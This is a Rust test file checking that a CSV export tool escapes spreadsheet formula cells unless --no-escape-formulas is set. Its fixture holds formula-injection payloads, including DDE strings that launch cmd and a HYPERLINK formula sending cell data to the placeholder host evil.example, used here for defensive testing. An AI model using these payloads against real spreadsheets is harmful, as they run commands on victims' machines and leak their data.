//! CSV cells that a spreadsheet would run as formulas: escaped with a `'`
//! unless `--no-escape-formulas`, the same as the `connections_csv`
//! example.

use super::{connections_csv, run, stderr, without_context};

/// Fields that reach a CSV from whoever raised the alert.
const HOSTILE: &str = concat!(
    r#"{"id":"@SUM(1+1)*cmd|' /C calc'!A0","networkConnections":[{"#,
    r#""destinationUrl":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","#,
    r#""applicationName":"=cmd|' /C calc'!A0","#,
    r#""sourceLocation":"+1+1","localDnsName":"\tx","destinationDomain":"-2+3","#,
    r#""riskScore":"-0.5","sourcePort":"443","urlParameters":"a=b"}]}"#,
    "\n"
);

#[test]
fn formulas_are_escaped_unless_asked_not_to() {
    let escaped = run(&["export", "-", "-o", "-"], HOSTILE.as_bytes());
    assert_eq!(escaped.status.code(), Some(0), "{}", stderr(&escaped));
    let rows = without_context(&escaped.stdout);
    let row = rows.split("\r\n").nth(1).unwrap();
    assert_eq!(
        row,
        concat!(
            r#"'@SUM(1+1)*cmd|' /C calc'!A0,'=cmd|' /C calc'!A0,,'-2+3,,,"#,
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,"#,
            "'\tx,,,,,,-0.5,,'+1+1,443,,a=b",
        )
    );
    let mut example = Vec::new();
    connections_csv::write_csv(HOSTILE.as_bytes(), &mut example).unwrap();
    assert_eq!(rows, String::from_utf8(example).unwrap());

    let raw = run(
        &["export", "-", "-o", "-", "--no-escape-formulas"],
        HOSTILE.as_bytes(),
    );
    let rows = without_context(&raw.stdout);
    assert_eq!(
        rows.split("\r\n").nth(1).unwrap(),
        concat!(
            r#"@SUM(1+1)*cmd|' /C calc'!A0,=cmd|' /C calc'!A0,,-2+3,,,"#,
            r#""=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,"#,
            "\tx,,,,,,-0.5,,+1+1,443,,a=b",
        )
    );
}
